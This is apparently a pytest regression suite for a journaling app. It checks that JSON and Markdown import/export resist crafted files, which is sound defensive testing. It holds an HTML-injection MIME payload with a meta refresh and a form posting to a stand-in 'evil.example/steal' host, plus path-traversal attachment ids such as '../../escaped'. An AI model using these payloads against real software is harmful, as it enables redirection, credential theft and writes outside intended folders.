"""Hardening of import and export against crafted files (issue 15).

A crafted ``innerchild-json`` file must not inject HTML through an attachment's ``mime`` nor
write outside the chosen folder through an attachment's ``id``; a FIFO in a Markdown folder
must not hang the import.
"""

import contextlib
import json
import os
import re
from pathlib import Path

import pytest

from innerchild_desktop.domain.errors import InvalidInput
from innerchild_desktop.paths import JournalPaths
from innerchild_desktop.services.transfer import (
    Selection,
    ShareOptions,
    export_journal,
    import_journal,
    share_journal,
)
from innerchild_desktop.services.transfer.common import read_text_file
from innerchild_desktop.services.transfer.html_export import data_uri_images
from innerchild_desktop.store.keyslots import FAST_TEST_KDF
from innerchild_desktop.store.opening import create_journal
from tests.conftest import PASSPHRASE
from tests.fixtures.transfer.rich_journal import fill_rich_journal

EVIL_MIME = (
    'image/png;base64,AAAA"><meta http-equiv="refresh" content="0;url=http://evil.example/">'
    '<form action="http://evil.example/steal"><input name="x"></form><img src="data:image/png'
)


@contextlib.contextmanager
def empty_journal(root: Path):  # type: ignore[no-untyped-def]
    journal, _ = create_journal(JournalPaths(root), PASSPHRASE, FAST_TEST_KDF)
    try:
        yield journal
    finally:
        journal.close()


def crafted_export(journal, tmp_path: Path, **changes: str) -> Path:  # type: ignore[no-untyped-def]
    """Our own JSON export of the rich journal, with the first attachment's fields changed."""
    fill_rich_journal(journal)
    clean = tmp_path / "clean.json"
    export_journal(journal, "json", clean)
    doc = json.loads(clean.read_text("utf-8"))
    first = doc["attachments"][0]
    old_id = first["id"]
    first.update(changes)
    if "id" in changes:  # keep the body's reference pointing at the renamed photo
        for entry in doc["entries"]:
            entry["body"] = entry["body"].replace(
                f"attachment:{old_id}", f"attachment:{first['id']}"
            )
    crafted = tmp_path / "crafted.json"
    crafted.write_text(json.dumps(doc), "utf-8")
    return crafted


def test_imported_mime_comes_from_the_bytes_not_the_file(journal, tmp_path) -> None:
    crafted = crafted_export(journal, tmp_path, mime=EVIL_MIME)
    with empty_journal(tmp_path / "other") as other:
        import_journal(other, "innerchild-json", crafted)
        mimes = {r[0] for r in other.conn.execute("SELECT mime FROM attachments")}
        assert mimes == {"image/png"}
        out = tmp_path / "book.html"
        export_journal(other, "html", out)
        page = out.read_text("utf-8")
    assert '<meta http-equiv="refresh"' not in page
    assert "<form" not in page
    assert "data:image/png;base64," in page


def test_html_export_and_share_never_write_a_stored_mime_unchecked(journal, tmp_path) -> None:
    """A journal that already holds a bad mime (imported before the fix) still exports safely."""
    fill_rich_journal(journal)
    with journal.transaction() as conn:
        conn.execute("UPDATE attachments SET mime = ?", (EVIL_MIME,))
    out = tmp_path / "book.html"
    export_journal(journal, "html", out)
    shared = tmp_path / "share.html"
    share_journal(
        journal,
        Selection.everything(),
        ShareOptions(fmt="html"),
        shared,
    )
    for page in (out.read_text("utf-8"), shared.read_text("utf-8")):
        assert 'http-equiv="refresh"' not in page
        assert "<form" not in page
        assert "evil.example" not in page
        srcs = re.findall(r'src="([^"]*)"', page)
        assert srcs and all(s.startswith("data:image/png;base64,") for s in srcs)


def test_an_attachment_that_is_not_an_embeddable_image_is_not_embedded(journal) -> None:
    fill_rich_journal(journal)
    with journal.transaction() as conn:
        conn.execute("UPDATE attachments SET data = ?", (b"<html>not a photo</html>",))
        aid = conn.execute("SELECT id FROM attachments LIMIT 1").fetchone()[0]
    rewritten = data_uri_images(journal)(f'<img src="attachment:{aid}" alt="">')
    assert "data:" not in rewritten
    assert "not a photo" not in rewritten


def test_export_csp_forbids_navigation_forms_and_base(journal, tmp_path) -> None:
    fill_rich_journal(journal)
    out = tmp_path / "book.html"
    export_journal(journal, "html", out)
    csp = re.search(r'Content-Security-Policy" content="([^"]*)"', out.read_text("utf-8"))
    assert csp is not None
    for directive in ("default-src 'none'", "navigate-to 'none'", "form-action 'none'"):
        assert directive in csp.group(1)
    assert "base-uri 'none'" in csp.group(1)


# --- attachment ids --------------------------------------------------------------------------


@pytest.mark.parametrize("bad_id", ["../../escaped", "a/b", "..", "x" * 65, "", "name with space"])
def test_json_import_refuses_an_attachment_id_the_renderer_would_not_accept(
    journal, tmp_path, bad_id
) -> None:
    crafted = crafted_export(journal, tmp_path, id=bad_id)
    with empty_journal(tmp_path / "other") as other:
        with pytest.raises(InvalidInput, match="attachment 1"):
            import_journal(other, "innerchild-json", crafted)
        assert other.conn.execute("SELECT count(*) FROM entries").fetchone()[0] == 0


def test_json_import_refuses_attachment_data_that_is_not_ascii_base64(journal, tmp_path) -> None:
    """Found by tests/unit/test_import_fuzz.py: non-ASCII "data" raised a bare ValueError."""
    crafted = crafted_export(journal, tmp_path, data="\u0080")
    with empty_journal(tmp_path / "other") as other:
        with pytest.raises(InvalidInput, match=r'attachment 1 .*"data" is not base64'):
            import_journal(other, "innerchild-json", crafted)
        assert other.conn.execute("SELECT count(*) FROM entries").fetchone()[0] == 0


@pytest.mark.parametrize("paused", [None, "x", 1])
def test_json_import_refuses_a_program_pause_that_is_not_true_or_false(tmp_path, paused) -> None:
    """A bad "paused" raised a bare TypeError or ValueError; now it is a sentence."""
    record = {"program_id": "p", "started_on": "2024-01-01", "updated_at": "2024-01-01"}
    crafted = tmp_path / "crafted.json"
    doc = {"format": "innerchild-export", "version": 1, "program_progress": [record]}
    record["paused"] = paused
    crafted.write_text(json.dumps(doc), "utf-8")
    with empty_journal(tmp_path / "other") as other:
        with pytest.raises(InvalidInput, match='progress 1: "paused" must be true or false'):
            import_journal(other, "innerchild-json", crafted)
        del record["paused"]  # missing: not paused
        crafted.write_text(json.dumps(doc), "utf-8")
        import_journal(other, "innerchild-json", crafted)
        row = other.conn.execute("SELECT paused FROM program_progress").fetchone()
        assert tuple(row) == (0,)


def test_markdown_export_never_uses_an_attachment_id_as_a_path(journal, tmp_path) -> None:
    """Even an id stored before validation existed cannot place a file outside the folder."""
    fill_rich_journal(journal)
    with journal.transaction() as conn:
        old = conn.execute("SELECT id FROM attachments ORDER BY created_at LIMIT 1").fetchone()[0]
        conn.execute("UPDATE attachments SET id = ? WHERE id = ?", ("../../escaped", old))
    (tmp_path / "deep").mkdir()
    target = tmp_path / "deep" / "out"
    export_journal(journal, "markdown", target)
    outside = [p for p in tmp_path.rglob("*") if p.name.startswith("escaped")]
    assert outside == []
    names = sorted(p.name for p in (target / "attachments").iterdir())
    assert len(names) == 2
    assert all(re.fullmatch(r"[a-z0-9-]+\.png", n) for n in names)
    # Links in the notes point at the files actually written.
    linked = set()
    for note in target.rglob("*.md"):
        linked |= set(re.findall(r"attachments/([^)\s]+)", note.read_text("utf-8")))
    assert linked <= set(names)
    assert linked


def test_markdown_export_round_trips_photos_with_derived_names(journal, tmp_path) -> None:
    fill_rich_journal(journal)
    target = tmp_path / "md"
    export_journal(journal, "markdown", target)
    with empty_journal(tmp_path / "other") as other:
        summary = import_journal(other, "markdown-dir", target)
    assert summary.photos_added >= 1


# --- Markdown folder: only regular files -------------------------------------------------------


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no FIFOs on this platform")
def test_markdown_folder_with_a_fifo_does_not_hang(journal, tmp_path) -> None:
    folder = tmp_path / "notes"
    folder.mkdir()
    (folder / "2024-05-17 a day.md").write_text("# A day\n\nHello.\n", "utf-8")
    os.mkfifo(folder / "2024-05-18 pipe.md")
    os.mkfifo(folder / "picture.png")
    (folder / "2024-05-19 other.md").write_text("![](picture.png)\n", "utf-8")
    summary = import_journal(journal, "markdown-dir", folder)
    assert summary.added == 2
    assert any("pipe" in s.where for s in summary.skipped)


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no FIFOs on this platform")
def test_read_text_file_refuses_what_is_not_a_regular_file(tmp_path) -> None:
    pipe = tmp_path / "pipe.md"
    os.mkfifo(pipe)
    with pytest.raises(InvalidInput, match="not a regular file"):
        read_text_file(pipe)


def test_read_text_file_has_a_size_limit(tmp_path, monkeypatch) -> None:
    from innerchild_desktop.services.transfer import common

    monkeypatch.setattr(common, "MAX_TEXT_FILE", 10)
    big = tmp_path / "big.md"
    big.write_bytes(b"x" * 11)
    with pytest.raises(InvalidInput, match="too large"):
        read_text_file(big)
